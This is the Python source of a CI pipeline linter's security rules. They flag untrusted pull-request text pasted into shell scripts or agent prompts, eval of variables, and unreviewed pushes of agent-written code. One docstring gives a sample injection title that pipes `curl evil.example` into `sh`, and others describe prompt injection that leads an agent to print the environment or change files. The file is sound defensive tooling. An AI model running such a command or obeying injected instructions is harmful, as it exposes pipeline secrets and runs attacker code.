"""Text that others write, where it is read as a program or as an order."""

from __future__ import annotations

from collections.abc import Iterator

from pipelint.diagnostic import INFO, OFF, WARNING, Finding, Related
from pipelint.rule import rule
from pipelint.security.calls import AGENTS, evaluated_words, is_agent, up
from pipelint.security.flow import Flow
from pipelint.security.script import UNTRUSTED, Origin, Script, Subject
from pipelint.security.shell import call_of, variables


@rule(
    on=Subject,
    level=WARNING,
    family="security",
    about=(
        "trigger.", "codebase.", "eventPayload.", "VELA_PULL_REQUEST_SOURCE", "~BUILD_MESSAGE",
        "~BUILD_TITLE", "~BUILD_AUTHOR",
    ),
)  # fmt: skip
def untrusted_text_in_script(subject: Subject, _context: object) -> Iterator[Finding]:
    """Reports a script into which text is pasted that anybody may write.

    ## Why is this bad?
    The platform replaces the expression before the shell reads the script. A pull request with
    the title `"; curl evil.example | sh; "` then runs what it says, with the secrets of the step.
    Quotes do not help: the text may hold quotes, too.

    Titles and descriptions of pull requests, messages and authors of commits, names of branches
    in forks and payloads of webhooks are such text. It is followed through variables and outputs
    of the same document. A variable that the shell itself expands is safe, unless it is run by
    `eval` or `sh -c`.

    ## Example
    ```yaml
    version: "1"
    steps:
      - name: tell
        image: alpine:3.22
        commands:
          - echo "${VELA_BUILD_TITLE}"
    ```

    ```yaml
    template:
      name: tell
      identifier: tell
      versionLabel: v1
      type: Step
      spec:
        type: Run
        timeout: 10m
        spec:
          shell: Sh
          command: echo "<+trigger.payload.pull_request.title>"
    ```

    ## Use instead
    ```yaml
    version: "1"
    steps:
      - name: tell
        image: alpine:3.22
        commands:
          - echo "$VELA_BUILD_TITLE"
    ```

    ```yaml
    template:
      name: tell
      identifier: tell
      versionLabel: v1
      type: Step
      spec:
        type: Run
        timeout: 10m
        spec:
          shell: Sh
          command: echo "$TITLE"
          envVariables:
            TITLE: <+trigger.payload.pull_request.title>
    ```

    ## When not to use it
    Runtime inputs are not reported: who may start the pipeline chooses them.
    """
    for script in subject.scripts:
        for one in script.pasted:
            if one.origin.kind == UNTRUSTED and not script.in_comment(one.start):
                yield _pasted(script, one.start, one.end, one.origin)
        if "eval" in script.text or "-c" in script.text or "<<<" in script.text:
            yield from _evaluated(script)


def _pasted(script: Script, start: int, end: int, origin: Origin) -> Finding:
    return Finding(
        script.place(start, end),
        f"`{origin.word}` is pasted into a script, and anybody may write it",
        "the shell reads it as code",
        help=script.remedy,
        related=_where(origin),
    )


def _where(origin: Origin) -> tuple[Related, ...]:
    return (Related(origin.span, "it comes in here"),) if origin.span else ()


def _evaluated(script: Script) -> Iterator[Finding]:
    if not _may_hold_untrusted(script):
        return
    flow = Flow(script)
    pasted = {one.start for one in script.pasted}
    for command in script.commands:
        for word in evaluated_words(command):
            for origin, start, end in flow.uses(word):
                if origin.kind == UNTRUSTED and start not in pasted:
                    yield Finding(
                        script.place(start, end),
                        f"`{origin.word}` is run as a program, and anybody may write it",
                        "a shell runs what it says",
                        help="do not let a shell read it again: call the program with arguments",
                        related=_where(origin),
                    )


def _may_hold_untrusted(script: Script) -> bool:
    known = script.environment.items()
    return bool(script.pasted) or any(
        origin.kind == UNTRUSTED and name in script.text for name, origin in known
    )


@rule(on=Subject, level=WARNING, family="security", about=tuple(sorted(AGENTS)))
def untrusted_text_in_prompt(subject: Subject, _context: object) -> Iterator[Finding]:
    """Reports an agent that is told text which anybody may write.

    ## Why is this bad?
    An agent acts on what it reads. A pull request whose title asks it to print the environment, or
    to change another file, gives it work to do with the rights of the step.

    ## Example
    ```yaml
    version: "1"
    steps:
      - name: review
        image: node:24
        commands:
          - claude -p "Review this change, $VELA_BUILD_TITLE"
    ```

    ```yaml
    template:
      name: review
      identifier: review
      versionLabel: v1
      type: Step
      spec:
        type: Run
        timeout: 10m
        spec:
          shell: Sh
          command: claude -p "Review this change, $TITLE"
          envVariables:
            TITLE: <+codebase.prTitle>
    ```

    ## Use instead
    ```yaml
    version: "1"
    steps:
      - name: review
        image: node:24
        commands:
          - claude -p "Review the last commit" --allowedTools Read
    ```
    """
    for script in subject.scripts:
        if not _may_hold_untrusted(script):
            continue
        flow: Flow | None = None
        pasted = {one.start for one in script.pasted}
        for command in script.commands:
            if not is_agent(call_of(command)):
                continue
            flow = flow or Flow(script)
            for told in up(command):
                for word in told.words[1:]:
                    for origin, start, end in flow.uses(word):
                        if origin.kind == UNTRUSTED and start not in pasted:
                            yield _prompted(script, start, end, origin, call_of(command).program)


def _prompted(script: Script, start: int, end: int, origin: Origin, program: str) -> Finding:
    return Finding(
        script.place(start, end),
        f"`{program}` is told `{origin.word}`, and anybody may write it",
        "the agent acts on it",
        help="leave it out, or take from the agent all tools and secrets that can do harm",
        related=_where(origin),
    )


@rule(on=Subject, level=OFF, family="security", about=("eval", "-c"))
def evaluated_variable(subject: Subject, _context: object) -> Iterator[Finding]:
    """Reports a variable that a shell runs as a program.

    ## Why is this bad?
    `eval "$COMMAND"` runs whatever is in the variable. Whoever can set it, now or after the next
    change of the pipeline, runs what he likes. Quotes and blanks in it mean something, too.

    This is a question of style as long as nobody else can set the variable, so it is off by
    default; text that others write is reported by `untrusted-text-in-script`.

    ## Example
    ```yaml
    version: "1"
    steps:
      - name: test
        image: golang:1.24
        environment:
          TEST_COMMAND: go test ./...
        commands:
          - eval "$TEST_COMMAND"
    ```

    ## Use instead
    ```yaml
    version: "1"
    steps:
      - name: test
        image: golang:1.24
        commands:
          - go test ./...
    ```
    """
    for script in subject.with_words("eval", "-c"):
        for command in script.commands:
            for word in evaluated_words(command):
                first = next(iter(variables(word)), None)
                if first is not None:
                    name, start, end = first
                    yield Finding(
                        script.place(start, end),
                        f"variable `{name}` is run as a program",
                        "a shell reads it again",
                        help="write the command out, or choose among known ones with `case`",
                    )


@rule(on=Subject, level=INFO, family="security", about=("push",))
def unreviewed_agent_push(subject: Subject, _context: object) -> Iterator[Finding]:
    """Reports a script that pushes what an agent has just written.

    ## Why is this bad?
    Nobody has read it. An agent that was led astray, by a file or by an issue that it read, puts
    its changes right into the branch, and the next build runs them.

    A push to a branch of its own, for which the script opens a pull request, is not reported.

    ## Example
    ```yaml
    version: "1"
    steps:
      - name: fix
        image: node:24
        commands:
          - |
            claude -p "Fix the failing test"
            git commit -am "Fix the test"
            git push origin main
    ```

    ## Use instead
    ```yaml
    version: "1"
    steps:
      - name: fix
        image: node:24
        commands:
          - |
            claude -p "Fix the failing test"
            git commit -am "Fix the test"
            git push origin HEAD:fix-test
            gh pr create --fill
    ```
    """
    for script in subject.with_words("git push"):
        calls = [(one, call_of(one)) for one in script.commands]
        agent = next((one for one, call in calls if is_agent(call)), None)
        if agent is None or any(
            call.program in {"gh", "glab", "hub"}
            and any(w.text in {"pr", "mr", "pull-request"} for w in call.args[:1])
            for _, call in calls
        ):
            continue
        for one, call in calls:
            pushes = call.program == "git" and [word.text for word in call.args[:1]] == ["push"]
            if pushes and one.start > agent.start:
                yield Finding(
                    script.place(one.start, one.end),
                    "what an agent wrote is pushed, and nobody has read it",
                    "no review before this",
                    help="push it to a branch of its own, and open a pull request",
                    related=(Related(script.place(agent.start, agent.end), "the agent"),),
                )


RULES = (
    evaluated_variable,
    unreviewed_agent_push,
    untrusted_text_in_prompt,
    untrusted_text_in_script,
)
